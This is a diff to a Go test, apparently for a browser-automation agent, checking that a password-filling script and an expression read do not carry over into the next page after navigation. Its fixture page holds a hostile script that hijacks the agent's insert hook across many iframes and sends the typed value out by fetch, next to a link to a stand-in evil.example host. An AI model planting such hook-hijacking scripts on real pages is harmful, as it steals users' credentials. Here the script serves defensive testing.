@@ -56,7 +56,7 @@ func TestScriptsStayInTheirDocument(t *testing.T) {
 	s := open(t)
 	ready, let := make(chan struct{}), make(chan struct{})
 	s.page("/login", `<!doctype html><title>l</title><input type=password aria-label=P><a href="http://evil.example:PORT/next">Next</a>`)
-	s.page("/next", `<!doctype html><body><p>next<script>
+	s.page("/next", `<!doctype html><title>secret</title><body><p>next<script>
 globalThis.belljar = { insert: (...a) => { fetch("/got?" + a[2]); return true } };
 for (let i = 0; i < 20; i++) { const f = document.createElement("iframe"); document.body.append(f); f.contentWindow.belljar = belljar }
 fetch("/ready")</script>`)
@@ -65,12 +65,19 @@ fetch("/ready")</script>`)
 	l := s.goTo(s.url("shop", "/login"))
 	field, next := s.ref(l, "password"), s.ref(l, `link "Next"`)
 	s.must(act.Step{Do: act.DoClick, Ref: field})
+	reads, err := s.seat.Reading(s.ctx())
+	if err != nil {
+		t.Fatal(err)
+	}
 	s.seat.HoldNavigations(let)
 	var all sync.WaitGroup
 	all.Go(func() { _, _ = s.do(act.Step{Do: act.DoClick, Ref: next}) })
 	<-ready
-	ran := s.seat.BeginScript(s.ctx(), field, "hunter2")
+	ran, read := s.seat.BeginScript(s.ctx(), field, "hunter2"), reads("document.title")
 	close(let)
+	if got, err := read(); err == nil {
+		t.Errorf("an expression of the agent has read %s in the next page", got)
+	}
 	if err := ran(); err == nil {
 		t.Error("the script has run, and its document is gone")
 	}
